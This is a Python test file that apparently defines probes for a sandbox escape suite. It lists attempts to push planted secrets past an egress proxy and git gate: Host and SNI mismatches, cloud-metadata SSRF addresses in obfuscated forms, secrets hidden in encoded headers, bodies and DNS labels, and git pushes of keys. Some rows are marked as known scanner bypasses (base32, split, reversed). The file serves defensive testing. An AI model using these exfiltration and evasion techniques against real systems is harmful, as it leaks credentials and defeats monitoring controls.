"""probes.py - what the escape suite tries through the bundle. One row, one attempt to get something out.

A row: id (field.md E4), category (PRD 0022: 1 host, 2 address, 3 secret, 4 DNS, 5 git; N other), what, and the order for
inside.py. MARK stands for a word of this attempt alone, SECRET for a planted token, IP for the bundle's address.
`open` says why a row is known to get through: told as TODO, never as passed.
"""
import base64
import gzip

FREE = "https://echo.example.net/MARK"  # allowed, no credential


def b64(data):
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def rows(secret, ip):
    return (hosts() + addresses(ip) + plain_secrets(secret) + coded_secrets(secret) + names(secret) + git_by_proxy() +
            git_by_gate(secret, ip))


def hosts():
    return [
        ("E-13", 1, "unlisted host by CONNECT", {"url": "https://blocked.example.org/MARK"}),
        ("E-13", 1, "unlisted host by absolute form", {"url": "http://blocked.example.org/MARK"}),
        ("E-13", 1, "name under an allowed one", {"url": "https://MARK.api.example.com/"}),
        ("E-13", 1, "upgrade to WebSocket", {"url": FREE, "headers": {
            "Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}}),
        ("E-14", 1, "allowed host, port 22", {"connect": "echo.example.net:22", "send": b64("MARK")}),
        ("E-14", 1, "allowed host, port 25", {"connect": "echo.example.net:25", "send": b64("MARK")}),
        ("E-14", 1, "allowed host, port 9418", {"connect": "echo.example.net:9418", "send": b64("MARK")}),
        ("E-14", 1, "raw bytes behind CONNECT", {"connect": "echo.example.net:443", "send": b64("SSH-2.0-MARK\r\n")}),
        ("E-16", 1, "another Host than CONNECT names", {"url": FREE, "headers": {"Host": "blocked.example.org"}}),
        ("E-16", 1, "another Host over plain http", {"url": FREE.replace("https", "http"),
                                                     "headers": {"Host": "blocked.example.org"}}),
        ("E-16", 1, "another name in TLS than CONNECT names", {"url": FREE, "sni": "blocked.example.org"}),
    ]


def addresses(ip):
    """Whatever Host says."""
    return [
        ("E-02", 2, "CONNECT to an address", {"url": "https://93.184.216.36/MARK"}),
        ("E-02", 2, "an address with an allowed Host", {"url": "http://93.184.216.36/MARK",
                                                        "headers": {"Host": "api.example.com"}}),
        ("E-04", 2, "DNS over HTTPS by name", {"url": "https://dns.example.com/dns-query?MARK"}),
        ("E-09", 2, "metadata service", {"url": "http://169.254.169.254/MARK"}),
        ("E-09", 2, "metadata service, IPv4-mapped", {"url": "http://[::ffff:169.254.169.254]/MARK"}),
        ("E-09", 2, "metadata service, decimal", {"url": "http://2852039166/MARK"}),
        ("E-09", 2, "metadata service, hexadecimal", {"url": "http://0xa9fea9fe/MARK"}),
        ("E-15", 2, "the egress proxy by 8888", {"url": "http://127.0.0.1:9099/MARK"}),
        ("E-15", 2, "the egress proxy by CONNECT", {"connect": "127.0.0.1:9099", "send": b64("GET /MARK\r\n\r\n")}),
        ("E-15", 2, "the bundle's own address", {"url": f"http://{ip}:9099/MARK"}),
        ("E-15", 2, "the gateway", {"url": f"http://{ip.rpartition('.')[0]}.1:7777/MARK"}),
        ("E-15", 2, "localhost by name", {"url": "http://localhost:9099/MARK"}),
        ("E-15", 2, "an allowed name with a private address", {"url": "https://private.example.com/MARK"}),
        ("E-15", 2, "the same over plain http", {"url": "http://private.example.com/MARK"}),
    ]


def plain_secrets(secret):
    """To a host that is allowed."""
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    json_type = {"Content-Type": "application/json"}
    multipart = {"Content-Type": "multipart/form-data; boundary=x"}
    part = f'--x\r\nContent-Disposition: form-data; name="f"; filename="n"\r\n\r\n{secret}\r\n--x--\r\n'
    return [
        ("E-17", 3, "path", {"url": f"{FREE}/{secret}"}),
        ("E-17", 3, "query", {"url": f"{FREE}?q={secret}"}),
        ("E-17", 3, "header", {"url": FREE, "headers": {"X-Note": secret}}),
        ("E-17", 3, "header's name", {"url": FREE, "headers": {secret.replace("_", "-_-"): "x", "X-" + secret: "y"}}),
        ("E-17", 3, "cookie", {"url": FREE, "headers": {"Cookie": f"a=b; n={secret}"}}),
        ("E-17", 3, "form", {"url": FREE, "headers": form, "body": b64(f"a=b&n={secret}")}),
        ("E-17", 3, "JSON", {"url": FREE, "headers": json_type, "body": b64('{"a":{"b":["%s"]}}' % secret)}),
        ("E-17", 3, "multipart", {"url": FREE, "headers": multipart, "body": b64(part)}),
        ("E-17", 3, "plain http", {"url": FREE.replace("https", "http") + f"?q={secret}"}),
    ]


def coded_secrets(secret):
    key = secret.encode()
    double = "".join(f"%25{b:02x}" for b in key)
    return [
        ("E-18", 3, "base64 in the query", {"url": f"{FREE}?q={base64.urlsafe_b64encode(key).decode()}"}),
        ("E-18", 3, "base64 in the body", {"url": FREE, "body": b64(base64.b64encode(b"note: " + key))}),
        ("E-18", 3, "hex in a header", {"url": FREE, "headers": {"X-Note": key.hex()}}),
        ("E-18", 3, "URL-encoded", {"url": FREE + "?q=" + "".join(f"%{b:02x}" for b in key)}),
        ("E-18", 3, "URL-encoded twice", {"url": f"{FREE}?q={double}"}),
        ("E-18", 3, "gzip body, told", {"url": FREE, "headers": {"Content-Encoding": "gzip"}, "body": b64(gzip.compress(key))}),
        ("E-18", 3, "gzip body, not told", {"url": FREE, "body": b64(gzip.compress(key))}),
        ("E-18", 3, "gzip in base64", {"url": FREE, "body": b64(base64.b64encode(gzip.compress(key)))}),
        ("E-18", 3, "a coding that is not the body's", {"url": FREE, "headers": {"Content-Encoding": "gzip"}, "body": b64("MARK")}),
        ("E-18", 3, "UTF-16 body", {"url": FREE, "body": b64(secret.encode("utf-16"))}),
        ("E-18", 3, "base32", {"url": FREE, "body": b64(base64.b32encode(key))}, "the bundle's scanner does not decode base32"),
        ("E-18", 3, "split over two parameters", {"url": f"{FREE}?a={secret[:20]}&b={secret[20:]}"},
         "no scanner joins what it was never given in one piece"),
        ("E-18", 3, "reversed", {"url": f"{FREE}?q={secret[::-1]}"}, "a coding of one's own is nobody's pattern"),
    ]


def names(secret):
    return [
        ("E-05", 4, "secret as a label, by CONNECT", {"url": f"https://{secret.replace('_', '-')}.blocked.example.org/MARK"}),
        ("E-05", 4, "a name of nobody", {"url": "http://MARK.canary.test/"}),
    ]


def git_by_proxy():
    return [
        ("E-25", 5, "push over HTTPS", {"url": FREE + ".git/info/refs?service=git-receive-pack"}),
        ("E-25", 5, "fetch over HTTPS", {"url": FREE + ".git/info/refs?service=git-upload-pack"}),
        ("E-25", 5, "LFS over HTTPS", {"url": FREE + ".git/info/lfs/objects/batch", "body": b64("{}")}),
    ]


GIT = """git init -q -b main w && cd w || exit 99
git config user.name Guest && git config user.email guest@example.com
export no_proxy=*
gate=http://IP:9418
"""


def git_by_gate(secret, ip):
    """Status 0 of a script means that the gate took it; a planted key must be named as the reason."""
    def script(text):
        return {"script": GIT.replace("IP", ip) + text}
    encoded = base64.b64encode(secret.encode()).decode()
    return [
        ("E-24", 5, "key in a file", script(f"echo {secret} >f; git add f; git commit -qm one; git push $gate/app main")),
        ("E-24", 5, "key in history, removed since", script(
            f"echo {secret} >f; git add f; git commit -qm one; git rm -q f; git commit -qm two; git push $gate/app main")),
        ("E-24", 5, "key in a commit message", script(f"git commit -q --allow-empty -m 'see {secret}'; git push $gate/app main")),
        ("E-24", 5, "key in a tag's message", script(
            f"git commit -q --allow-empty -m one; git tag -a v1 -m '{secret}'; git push $gate/app main v1")),
        ("E-24", 5, "key as a file's name", script(f"echo x >{secret}; git add .; git commit -qm one; git push $gate/app main")),
        ("E-24", 5, "key as a branch", script(f"git commit -q --allow-empty -m one; git push $gate/app main:{secret}")),
        ("E-24", 5, "key in base64", script(f"echo {encoded} >f; git add f; git commit -qm one; git push $gate/app main")),
        ("E-25", 5, "a repository that is not configured", script("git commit -q --allow-empty -m one; git push $gate/other main")),
        ("E-25", 5, "a path that climbs", script("git commit -q --allow-empty -m one; git push $gate/app/../other main")),
        ("E-25", 5, "notes", script("git commit -q --allow-empty -m one; git push $gate/app HEAD:refs/notes/x")),
        ("E-25", 5, "deleting a branch", script("git push $gate/app :main")),
        ("E-25", 5, "an archive", script("git archive --remote=$gate/app main")),
        ("E-25", 5, "dumb HTTP", script("curl -sSf --noproxy '*' $gate/app/objects/info/packs")),
    ]
